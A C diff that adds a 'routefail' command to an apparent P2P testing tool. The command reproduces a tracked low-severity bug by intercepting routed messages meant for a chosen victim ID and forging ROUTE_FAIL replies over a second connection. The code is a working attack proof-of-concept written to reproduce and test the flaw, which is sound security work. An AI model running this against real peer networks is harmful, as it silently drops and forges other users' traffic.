@@ -305,3 +305,99 @@ int pl_cmd_dialbackok(int argc, char **argv)
 	close(lfd);
 	return PL_OK;
 }
+
+/*
+ * p2pload routefail (issue 9, Low: forged ROUTE_FAIL): two links to the
+ * daemon from one attacker, the first saying "server", the second not
+ * (so the daemon routes nothing through it). A routed message for the
+ * victim (an ID next to the first link's) goes to the first link; the
+ * attacker keeps it and, over the second link, off the message's path,
+ * sends the daemon a ROUTE_FAIL naming its msgid. Prints
+ * "routefail: victim=ID" at once, then "routefail: forged=N".
+ */
+struct rfail {
+	struct p2p_peerid victim, daemon;
+	struct pl_link *off; /* the link off the path */
+	unsigned forged;
+};
+
+static void rfail_on_msg(struct pl_link *l, const struct p2p_msg *m)
+{
+	struct rfail *x = l->ctx;
+	uint8_t body[8];
+
+	if (m->type != P2P_MSG_ROUTED ||
+	    !p2p_peerid_equal(&m->u.routed.dst, &x->victim) ||
+	    m->u.routed.app == P2P_APP_ROUTE_FAIL)
+		return;
+	for (int i = 0; i < 8; i++)
+		body[i] = (uint8_t)(m->u.routed.msgid >> (56 - 8 * i));
+	send_routed(x->off, &x->off->ident.id, &m->u.routed.src,
+		    P2P_APP_ROUTE_FAIL, body, sizeof(body));
+	x->forged++;
+}
+
+int pl_cmd_routefail(int argc, char **argv)
+{
+	struct p2p_addr a;
+	struct sockaddr_storage ss;
+	socklen_t sl;
+	struct pl_link l[2];
+	struct rfail x = {0};
+	long secs = pl_opt(argc, argv, "--seconds", 5);
+	char t[P2P_ID_TEXT_LEN + 1];
+	long long end;
+
+	if (argc < 2 || secs < 1 || pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
+		return PL_USAGE;
+	for (int i = 0; i < 2; i++) {
+		if (pl_link_dial(&l[i], &a, &ss, sl, NULL) < 0) {
+			printf("routefail: no link\n");
+			return PL_IO;
+		}
+		l[i].ctx = &x;
+	}
+	l[0].say_server = true;
+	l[0].on_msg = rfail_on_msg;
+	x.off = &l[1];
+	end = pl_now_us() + 5000000LL;
+	while (pl_now_us() < end) {
+		struct pollfd p[2];
+		bool up = true;
+		for (int i = 0; i < 2; i++) {
+			p[i] = (struct pollfd){.fd = l[i].fd,
+					       .events = pl_link_events(&l[i])};
+			up = up && l[i].state == PL_UP && l[i].got_hello;
+		}
+		if (up)
+			break;
+		if (poll(p, 2, 20) > 0)
+			for (int i = 0; i < 2; i++)
+				pl_link_io(&l[i], p[i].revents);
+	}
+	if (l[0].state != PL_UP || l[1].state != PL_UP) {
+		printf("routefail: no link\n");
+		pl_link_free(&l[0]);
+		pl_link_free(&l[1]);
+		return PL_IO;
+	}
+	x.victim = l[0].ident.id;
+	x.victim.b[P2P_ID_LEN - 1] ^= 1;
+	p2p_peerid_to_text(&x.victim, t);
+	printf("routefail: victim=%s\n", t);
+	fflush(stdout);
+	end = pl_now_us() + secs * 1000000LL;
+	while (pl_now_us() < end) {
+		struct pollfd p[2];
+		for (int i = 0; i < 2; i++)
+			p[i] = (struct pollfd){.fd = l[i].fd,
+					       .events = pl_link_events(&l[i])};
+		if (poll(p, 2, 20) > 0)
+			for (int i = 0; i < 2; i++)
+				pl_link_io(&l[i], p[i].revents);
+	}
+	printf("routefail: forged=%u\n", x.forged);
+	pl_link_free(&l[0]);
+	pl_link_free(&l[1]);
+	return PL_OK;
+}
